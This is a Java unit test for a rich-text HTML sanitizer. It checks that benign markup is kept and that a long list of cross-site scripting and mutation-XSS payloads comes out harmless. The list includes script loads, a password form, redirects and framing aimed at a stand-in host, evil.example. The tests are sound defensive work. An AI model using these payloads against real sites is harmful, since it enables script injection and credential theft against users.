package io.armature.core.value;

import static org.assertj.core.api.Assertions.assertThat;

import io.armature.metadata.model.FieldType;
import io.armature.metadata.model.LocalizedText;
import io.armature.metadata.resolve.Field;
import io.armature.metadata.resolve.FieldStorage;
import java.util.Locale;
import java.util.Optional;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What a page that shows rich text is exposed to: nothing that runs, loads, submits or covers. */
class RichTextTest {
    private static final Set<String> ACTIVE_ELEMENTS = Set.of(
            "script",
            "style",
            "svg",
            "math",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "button",
            "link",
            "meta",
            "base",
            "template",
            "noscript",
            "textarea",
            "title",
            "video",
            "audio",
            "frameset",
            "applet",
            "marquee");

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
                    <p>Hi <b>you</b></p>                          | <p>Hi <b>you</b></p>
                    <ul><li>one</li></ul>                         | <ul><li>one</li></ul>
                    <a href="tel:+49301234">call</a>              | <a href="tel:+49301234" rel="nofollow noopener noreferrer">call</a>
                    <img src="https://example.com/a.png">         | <img src="https://example.com/a.png">
                    1 < 2 & 3                                     | 1 &lt; 2 &amp; 3
                    """)
    void What_people_write_is_kept(String html, String kept) {
        assertThat(cleaned(html)).isEqualTo(kept);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</script>",
                "<script\u0009>alert(1)</script >",
                "<img src=x onerror=alert(1)>",
                "<img src='x'onerror='alert(1)'>",
                "<p onclick=\"alert(1)\" ONMOUSEOVER=alert(1)>x</p>",
                "<body onload=alert(1)>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\" JaVaScRiPt:alert(1)\">x</a>",
                "<a href=\"java\u0009script:alert(1)\">x</a>",
                "<a href=\"java&#x0A;script:alert(1)\">x</a>",
                "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
                "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
                "<p style=\"background:url(javascript:alert(1))\">x</p>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<p style=\"position:fixed;top:0;left:0;width:100%\">x</p>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<iframe src=https://evil.example></iframe>",
                "<form action=https://evil.example><input name=password></form>",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
                "<base href=https://evil.example/>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<object data=https://evil.example/x.swf></object>",
                "<video><source onerror=alert(1)></video>",
                "<details open ontoggle=alert(1)>x</details>",
                "<isindex type=image src=1 onerror=alert(1)>",
                "<a href=x target=_blank onfocus=alert(1) autofocus>x</a>"
            })
    void Whatever_runs_loads_or_submits_is_gone(String html) {
        assertHarmless(html);
    }

    /** Shapes that a browser parses into something else than was cleaned, when the output is written carelessly. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
                "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
                "<title><a title=\"</title><img src=x onerror=alert(1)>\"></title>",
                "<template><script>alert(1)</script></template>",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<!--><img src=x onerror=alert(1)>-->",
                "<![CDATA[<img src=x onerror=alert(1)>]]>",
                "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
                "<p title=\"`><img src=x onerror=alert(1)>\">x</p>",
                "&lt;img src=x onerror=alert(1)&gt;<b title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'>x</b>"
            })
    void What_would_change_when_it_is_parsed_again_stays_harmless(String html) {
        assertHarmless(html);
        String once = cleaned(html);
        assertThat(once.isEmpty() ? once : cleaned(once)).isEqualTo(once);
    }

    @Test
    void That_nothing_is_left_of_is_no_value() {
        assertThat(accepted("<script>alert(1)</script>")).isNull();
    }

    @Test
    void That_is_nested_beyond_reason_is_cleaned_all_the_same() {
        assertThat(cleaned("<b>".repeat(20_000) + "x")).contains("x");
    }

    private static void assertHarmless(String html) {
        Document shown = Jsoup.parse(cleaned(html));
        for (Element element : shown.getAllElements()) {
            assertThat(ACTIVE_ELEMENTS).doesNotContain(element.normalName());
            element.attributes().forEach(attribute -> {
                assertThat(attribute.getKey()).doesNotStartWith("on").isNotIn("style", "srcdoc", "xlink:href");
                assertThat(attribute.getValue().strip().toLowerCase(Locale.ROOT))
                        .doesNotStartWith("javascript:")
                        .doesNotStartWith("vbscript:")
                        .doesNotStartWith("data:");
            });
        }
    }

    private static String cleaned(String html) {
        Object value = accepted(html);
        return value == null ? "" : value.toString();
    }

    private static @Nullable Object accepted(String html) {
        return switch (ValueCodecs.canonical(FIELD, name -> null, html)) {
            case Decoded.Accepted(var value) -> value;
            case Decoded.Refused(var violation) -> throw new AssertionError(violation);
        };
    }

    private static final Field FIELD = new Field(
            "accounts",
            "probe",
            LocalizedText.of("Probe"),
            Optional.empty(),
            new FieldType.RichText(1_000_000),
            Set.of(),
            Optional.empty(),
            new FieldStorage.Custom("f1", Optional.empty()),
            Field.Origin.CUSTOM);
}
